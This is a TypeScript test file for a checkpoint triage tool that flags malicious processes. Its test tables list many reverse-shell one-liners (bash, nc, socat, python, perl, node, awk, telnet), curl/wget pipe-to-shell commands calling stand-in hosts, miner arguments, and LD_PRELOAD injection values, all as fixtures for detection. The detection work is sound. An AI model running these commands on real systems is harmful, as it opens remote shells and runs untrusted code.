import { describe, expect, it } from 'vitest';
import { writeMessage } from '../../../src/criu/write-message.js';
import { PAGE, run, vma } from '../../support/memory-images.js';
import { madeProcess } from '../../support/made-process.js';
import { runHere } from '../../support/run-here.js';
import { Scratch } from '../../support/scratch.js';
import { entry, imageBytes } from '../../support/wire.js';

const scratch = new Scratch();
let made = 0;

interface Made {
  readonly comm?: string;
  readonly argv?: readonly string[];
  readonly environment?: readonly string[];
  readonly exe?: string;
}

interface Row {
  readonly rule: string;
  readonly severity: string;
  readonly because: string;
}

/** What triage says of one process: its names, arguments and environment. */
async function findings({
  comm = 'prog',
  argv = [],
  environment = [],
  exe = '/usr/bin/prog',
}: Made) {
  const bytes = Buffer.alloc(PAGE);
  const args = Buffer.from(argv.map((word) => `${word}\0`).join(''));
  const variables = Buffer.from(environment.map((word) => `${word}\0`).join(''));
  bytes.set(args);
  bytes.set(variables, args.length);
  const start = 0x10000n;
  const middle = start + BigInt(args.length);
  made += 1;
  const directory = scratch.directory(`made-${made}`, {
    ...madeProcess({
      march: 'X86_64',
      registers: {},
      comm,
      mm: {
        exe_file_id: 7,
        mm_arg_start: start,
        mm_arg_end: middle,
        mm_env_start: middle,
        mm_env_end: middle + BigInt(variables.length),
      },
      vmas: [vma(16, 1, { prot: 3 })],
      pagemap: [run(16, 1)],
      pages: bytes,
    }),
    'files.img': imageBytes('FILES', [
      entry(
        writeMessage('file_entry', {
          type: 1,
          id: 7,
          reg: {
            id: 7,
            flags: 0,
            pos: 0n,
            fown: { uid: 0, euid: 0, signum: 0, pid_type: 0, pid: 0 },
            name: exe,
          },
        }),
      ),
    ]),
  });
  const { stdout } = await runHere('checkpointctl', ['triage', directory, '--format', 'json']);
  return JSON.parse(stdout) as Row[];
}

const rules = async (process: Made) => (await findings(process)).map(({ rule }) => rule);

describe('command lines', () => {
  it.each([
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['echo aGk= | base64 -d | sh'],
    ['curl -fsSL http://x.example/i | bash'],
    ['wget -qO- http://x.example/i | sudo sh'],
    ['nc -e /bin/sh 10.0.0.1 4444'],
    ['rm f;mkfifo f;cat f|sh -i 2>&1|nc 10.0.0.1 1 >f'],
    ['socat TCP:10.0.0.1:1 EXEC:sh'],
    ['python3 -c import socket,pty;s=socket.socket();pty.spawn("sh")'],
    ['./m -o stratum+tcp://pool.example:3333'],
    ['./m --donate-level 1'],
    ['curl -s "http://x.example/?a=1&b=2" | sh'],
    ['/bin/busybox nc 10.0.0.1 4444 -e /bin/sh'],
    ['ncat --ssl 10.0.0.1 4444 --exec=/bin/bash'],
    ['awk BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while(1){s|&getline c}}'],
    ['telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445'],
    ['node -e require("child_process").spawn("sh");require("net").connect(4444)'],
    ['perl -e \'use Socket;socket(S,2,1,6);exec("/bin/sh -i");\''],
  ])('%s', async (line) => {
    const found = await findings({ argv: ['sh', '-c', line], exe: '/bin/sh', comm: 'sh' });
    expect(found).toMatchObject([{ rule: 'command-line', severity: 'high' }]);
  });

  it.each([
    ['curl -fsSL http://x.example/i -o file'],
    ['base64 -d file'],
    ['nc -l 80'],
    ['python3 -c print(1)'],
    ['rsync -e ssh a b'],
    ['sh -c exec nginx'],
    ['java -cp /opt/nc/lib -server -Dname=cash nc.Main --exec now'],
    ['nc -zv host 80'],
    ['ruby /usr/bin/puma -e production -b unix:///tmp/sockets/app.sock'],
    ['node -e console.log("net")'],
  ])('%s is none', async (line) => {
    expect(await rules({ argv: ['sh', '-c', line], exe: '/bin/sh', comm: 'sh' })).toEqual([]);
  });

  it('who searches for one has it in its own', async () => {
    const argv = ['grep', '-r', '/dev/tcp/1.2.3.4/5', '/srv'];
    expect(await rules({ argv, exe: '/bin/grep', comm: 'grep' })).toEqual([]);
  });
});

describe('names', () => {
  it.each([
    ['kworker/0:1', '[kworker/0:1]', '/opt/x', ['kernel-thread-mask']],
    ['prog', '[kthreadd]', '/usr/bin/prog', ['kernel-thread-mask']],
    ['upd', '/usr/sbin/sshd', '/opt/tool', ['false-name']],
    ['celery', '[celery beat] -A app', '/usr/bin/celery', []],
    // Titles, versions, multi-call programs, login shells, scripts and threads' names are innocent.
    ['nginx', 'nginx: worker process', '/usr/sbin/nginx', []],
    ['postgres', 'postgres: writer', '/usr/lib/postgresql/15/bin/postgres', []],
    ['python3', 'python3', '/usr/bin/python3.11', []],
    ['sleep', 'sleep', '/bin/busybox', []],
    ['bash', '-bash', '/usr/bin/bash', []],
    ['app.py', '/usr/bin/python3', '/usr/bin/python3.11', []],
    ['main', 'java', '/usr/lib/jvm/bin/java', []],
  ])('comm %s, argv[0] %s, %s', async (comm, first, exe, expected) => {
    expect(await rules({ comm, argv: [first, 'x'], exe })).toEqual(expected);
  });

  it('arguments that were wiped', async () => {
    expect(await rules({ argv: ['', '', '', ''] })).toEqual(['wiped-arguments']);
  });
});

describe('environments', () => {
  it.each([
    ['LD_PRELOAD=/tmp/x.so', 'library-injection', 'high'],
    ['LD_PRELOAD=/usr/lib/libjemalloc.so.2', 'library-injection', 'low'],
    ['LD_AUDIT=/dev/shm/a.so', 'library-injection', 'high'],
    ['HISTFILE=/dev/null', 'history-off', 'low'],
    ['HISTSIZE=0', 'history-off', 'low'],
  ])('%s', async (variable, rule, severity) => {
    const found = await findings({ argv: ['prog'], environment: ['A=1', variable] });
    expect(found).toMatchObject([{ rule, severity }]);
  });

  it.each([['LD_PRELOAD='], ['HISTFILE=/root/.bash_history'], ['HISTSIZE=1000']])(
    '%s is none',
    async (variable) => {
      expect(await rules({ argv: ['prog'], environment: [variable] })).toEqual([]);
    },
  );

  it('of a shell it weighs more', async () => {
    const shell = { argv: ['bash'], exe: '/usr/bin/bash', comm: 'bash' };
    expect(await findings({ ...shell, environment: ['HISTFILE='] })).toMatchObject([
      { rule: 'history-off', severity: 'medium' },
    ]);
  });
});
